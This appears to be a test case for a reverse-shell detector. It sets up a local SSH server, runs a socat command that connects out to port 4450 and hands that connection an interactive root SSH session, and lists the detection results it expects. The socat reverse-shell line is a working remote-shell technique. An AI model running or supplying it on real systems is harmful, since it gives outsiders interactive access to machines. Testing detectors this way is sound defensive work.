# R49b: the same by socat, with a terminal
# stage: equipped
# expect: reverse_shell_detected
#   detection.reason: ~outbound
#   detection.confidence: high
#   reverse_shell.process_list.length: 4
#   reverse_shell.process_list.0.process_id: $socat
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4450
#   reverse_shell.process_list.1.process_id: $ssh
#   reverse_shell.process_list.3.process_id: $shell

#: prepare
. lib/logins.sh
. lib/peers.sh
ssh_server 4502; fact server $(pgrep -o sshd); peer 4450
#: act
. lib/peers.sh
act
socat TCP:127.0.0.1:4450 'EXEC:ssh -tt -p 4502 root@127.0.0.1' < /dev/null > /dev/null 2>&1 &
fact socat $!; who ssh 'ssh -tt -p 4502 root@127.0.0.1'; who shell '-bash'
await 'at $shell 0 /dev/pts/*'
#: clean
kill $server
